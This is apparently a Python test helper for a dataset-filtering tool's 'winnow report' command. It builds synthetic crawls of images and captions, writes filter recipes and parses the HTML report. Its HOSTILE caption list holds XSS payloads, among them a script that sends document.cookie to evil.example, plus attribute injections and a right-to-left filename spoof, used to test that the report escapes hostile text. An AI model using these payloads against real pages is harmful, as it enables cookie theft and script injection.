"""Runs that the tests of `winnow report` look at, made with captions and pictures of all kinds; and how its page is read."""
import html.parser
import json
import os
import random
import re

from tests.e2e import make
from tests.e2e.report_test import SCHEMA, faults

HOSTILE = [
    "<script>fetch('//evil.example/?'+document.cookie)</script>", "\" onload=alert(1) x=\"", "'><img src=http://evil.example/x.png>",
    "invoice\u202egnp.exe download now", "</title><style>*{display:none}</style> a caption", "&lt;b&gt; stays as it is", "javascript:alert(1) link",
    "غروب الشمس فوق البحر", "山あいの湖に映る朝の光", "a long one " * 60,
]
RECIPE = """
inputs: [{inputs}]
stages:
  - extract:
  - filter:
      rule: [words text.words min=2, chars text.chars max=60, length url.length max=40, rep text.repetition max=0.4, ending url.extension allow=png]
  - dedup:
      by: url+text
  - fetch:
      size: 64
  - filter:
      rule: [side image.min_side min=30, bytes image.bytes min=300 max=4000, aspect image.aspect max=2.1]
  - shard:
      samples: 40
tasks: {tasks}
"""
SCORED = """
inputs: [{inputs}]
stages:
  - extract:
  - fetch:
      size: 64
  - score:
      classes: laion_nsfw
      classifier: gantman
      cache: ""
  - filter:
      at: all
      allow-substitute: builtin
      rule: [similar score.range column=sim_b32 min=0.01, photo score.range column=p_photo_builtin max=0.5, adult score.range column=p_porn_gantman plus=p_hentai_gantman max=0.3]
  - shard:
tasks: {tasks}
"""


def crawl(seed, hosts=7, pages=40):
    """Pages with captions of all kinds, and pictures of many sizes, some missing."""
    dice = random.Random(seed)
    records, names = [], {}
    for number in range(pages):
        images = []
        for _ in range(dice.randrange(1, 12)):
            host, name = dice.randrange(hosts), dice.randrange(60)
            ending = "png" if name % 13 else "gif"
            url = f"http://img{host}.site{host % 4}.example{'.co.uk' if host % 2 else ''}/{'p' * (name % 17)}{name}.{ending}"
            text = dice.choice(HOSTILE) if dice.random() < 0.15 else " ".join(dice.choice(make.WORDS) for _ in range(min(int(dice.expovariate(0.3)), 30)))
            if dice.random() < 0.2:
                text, url = "a cat on a mat", f"http://img0.site0.example/{'p' * 3}3.png"
            names.setdefault(url, name)
            images.append((url, text.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")))
        records.append(make.page(f"http://www{number % 5}.pages.example/{seed}/{number}.html", images))
    for url, name in sorted(names.items()):
        if name % 11 != 10:
            width, height = 25 + name, 20 + name * name % 70
            records.append(make.picture(url, make.png(width, height, name) if name % 5 else make.JPEG))
    return make.packed(records)


class Page(html.parser.HTMLParser):
    """Elements and text of a page."""

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.tags, self.text, self.ids, self.open = [], [], [], []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.tags.append((tag, dict(attributes)))
        self.ids += [value for name, value in attributes if name == "id"]
        if tag not in ("meta", "img", "wbr", "input", "br"):
            self.open.append(tag)

    def handle_endtag(self, tag):
        if not self.open or self.open.pop() != tag:
            raise AssertionError(f"</{tag}> closes something else at {self.getpos()}")

    def handle_startendtag(self, tag, attributes):
        self.tags.append((tag, dict(attributes)))

    def handle_data(self, data):
        if not self.open or self.open[-1] not in ("script", "style"):
            self.text.append(data)

    @property
    def words(self):
        return re.sub(r"\s+", " ", "".join(self.text).replace("\u202f", " ").replace("\xa0", " "))


class ReportRun(make.InFolder):
    def make_run(self, tasks=2, crawls=None, recipe=RECIPE):
        crawls = crawls if crawls is not None else [crawl(1), crawl(2)]
        for number, data in enumerate(crawls):
            self.write(f"{number}.warc.gz", data)
        self.write("recipe.yaml", recipe.format(inputs=", ".join(f"{n}.warc.gz" for n in range(len(crawls))), tasks=tasks))
        self.winnow("run", "-q", "recipe.yaml")

    def json(self, *arguments):
        report = json.loads(self.winnow("report", "--format", "json", *arguments, "OUT").out)
        self.assertEqual(list(faults(report, SCHEMA)), [])
        return report

    def page(self, *arguments):
        text = self.winnow("report", "--format", "html", *arguments, "OUT").out.decode()
        return text, Page(text)

    def rows(self):
        """Every row once, with its fate: `end` is the step that dropped it, None in the corpus."""
        rows = []
        for folder in sorted(os.listdir(self.path("OUT"))):
            for name in sorted(os.listdir(self.path("OUT", folder))) if os.path.isdir(self.path("OUT", folder)) else []:
                last = folder == "shards.meta" and name.endswith(".rows.zst")
                if last or name.endswith(".dropped.zst"):
                    rows += [dict(row, end=None if last else folder) for row in self.view(f"OUT/{folder}/{name}")]
        for row in rows:
            for column in ("text", "url", "page_url"):
                row[column] = make.unescape(row[column])
        return rows
